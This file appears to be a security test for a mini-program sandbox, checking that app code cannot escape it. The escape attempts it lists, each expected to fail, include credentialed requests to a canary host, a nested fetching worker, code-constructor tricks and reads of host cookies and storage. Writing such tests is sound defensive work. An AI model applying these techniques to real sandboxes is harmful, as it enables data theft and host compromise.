// Escapes tried from the logic thread, as app code the platform compiled. Each must fail.
const { runAll, reason } = require('../../utils/attempts.js');

const SECRET = 'HOST-SECRET-9d2e';
const WASM = [0, 97, 115, 109, 1, 0, 0, 0];

/** Whatever a host secret would look like, if one leaked into a value. */
function judge(value) {
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return text && text.includes(SECRET) ? `ESCAPED: read ${text}` : `blocked: got nothing (${String(text).slice(0, 60)})`;
}

/** wx.request as a Promise (it returns a RequestTask, as in WeChat). */
function request(url) {
  return new Promise((resolve, reject) => wx.request({ url, success: resolve, fail: reject }));
}

function waitFor(target, good, bad) {
  return new Promise((resolve, reject) => {
    target[good] = () => resolve(`ESCAPED: ${good}`);
    target[bad] = (e) => reject(new Error(`${bad} ${reason(e)}`));
  });
}

function attempts(canary, platform) {
  return [
    ['fetch', () => fetch(`${canary}/hit/fetch`, { credentials: 'include' }).then((r) => r.text()).then((t) => `ESCAPED: ${t}`)],
    ['xhr', () => {
      const x = new XMLHttpRequest();
      x.open('GET', `${canary}/hit/xhr`);
      x.withCredentials = true;
      x.send();
      return waitFor(x, 'onload', 'onerror');
    }],
    ['websocket', () => waitFor(new WebSocket(`${canary.replace('http', 'ws')}/hit/websocket`), 'onopen', 'onerror')],
    ['eventsource', () => waitFor(new EventSource(`${canary}/hit/eventsource`), 'onopen', 'onerror')],
    ['import-scripts', () => {
      importScripts(`${canary}/hit/import-scripts.js`);
      return 'ESCAPED: imported';
    }],
    ['dynamic-import', () => import(`${canary}/hit/dynamic-import.js`).then(() => 'ESCAPED: imported')],
    ['recover-network', () => {
      // Look for a network constructor left anywhere up the global's prototype chain.
      const found = [];
      for (let o = globalThis; o; o = Object.getPrototypeOf(o)) {
        for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker']) {
          const d = Object.getOwnPropertyDescriptor(o, name);
          if (d && typeof d.value === 'function') found.push(name);
        }
      }
      if (!found.length) throw new Error('nothing left to recover');
      return `ESCAPED: found ${found.join(',')}`;
    }],
    ['nested-worker', () => {
      const w = new Worker(`data:text/javascript,fetch(${JSON.stringify(`${canary}/hit/nested-worker`)})`);
      return waitFor(w, 'onmessage', 'onerror');
    }],
    ['eval', () => `ESCAPED: ${eval('1 + 1')}`],
    ['new-function', () => `ESCAPED: ${new Function('return 2')()}`],
    ['function-via-prototype', () => `ESCAPED: ${(function () {}).constructor('return 3')()}`],
    // WeChat's one exception is the exact body 'return this' (the global object); anything near it is code.
    ['function-near-return-this', () => `ESCAPED: ${Function('return this; 1')()}`],
    ['async-function-constructor', () => {
      const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
      return AsyncFunction('return 4')().then((v) => `ESCAPED: ${v}`);
    }],
    ['generator-function-constructor', () => {
      const Generator = Object.getPrototypeOf(function* g() {}).constructor;
      return `ESCAPED: ${Generator('yield 5')().next().value}`;
    }],
    ['string-timer', () => new Promise((resolve) => {
      globalThis.__stringTimerRan = false;
      setTimeout('globalThis.__stringTimerRan = true', 0);
      setTimeout(() => resolve(globalThis.__stringTimerRan ? 'ESCAPED: the string ran' : 'blocked: the string never ran'), 300);
    })],
    ['webassembly', () => WebAssembly.compile(new Uint8Array(WASM)).then(() => 'ESCAPED: compiled')],
    ['blob-url', () => `ESCAPED: ${URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))}`],
    ['host-cookie', () => judge(typeof document === 'undefined' ? undefined : document.cookie)],
    ['host-local-storage', () => judge(localStorage.getItem('hostSecret'))],
    ['host-session-storage', () => judge(sessionStorage.getItem('hostSecret'))],
    ['host-indexeddb', () => new Promise((resolve, reject) => {
      const request = indexedDB.open('host-secret-db');
      request.onsuccess = () => resolve(`ESCAPED: opened ${request.result.objectStoreNames.length} stores`);
      request.onerror = () => reject(request.error);
    })],
    ['indexeddb-names', () => indexedDB.databases().then((list) => `ESCAPED: ${JSON.stringify(list)}`)],
    ['cache-storage', () => caches.keys().then((keys) => `ESCAPED: ${JSON.stringify(keys)}`)],
    ['parent-window', () => {
      const reachable = [typeof parent, typeof top, typeof opener, typeof document, typeof window].filter((t) => t !== 'undefined');
      if (reachable.length) return `ESCAPED: ${reachable.join(',')}`;
      throw new Error('no window, parent, top or document');
    }],
    ['navigate-top', () => {
      // A worker's location is read-only; navigating it would mean navigating nothing visible anyway.
      location.href = `${canary}/hit/navigate-top`;
      return location.href.includes('/hit/') ? 'ESCAPED: navigated' : 'blocked: location unchanged';
    }],
    ['request-platform-with-cookies', () => request(`${platform}/api/me/recent`).then((res) => `ESCAPED: status ${res.statusCode} ${judge(res.data)}`)],
    ['socket-platform', () => new Promise((resolve, reject) => {
      const task = wx.connectSocket({ url: `${platform.replace('http', 'ws')}/api/health`, fail: reject });
      if (task) {
        task.onOpen(() => resolve('ESCAPED: socket open'));
        task.onError((e) => reject(e));
      }
    })],
    // Loopback is an allowed domain while the platform runs on loopback: the request is made, without cookies.
    ['request-credentials', () => request(`${canary}/hit/request-credentials`).then((res) => judge(res.data))],
  ];
}

Page({
  data: { results: [], done: false },
  onLoad(query) {
    runAll(this, attempts(decodeURIComponent(query.canary || ''), decodeURIComponent(query.platform || '')));
  },
});
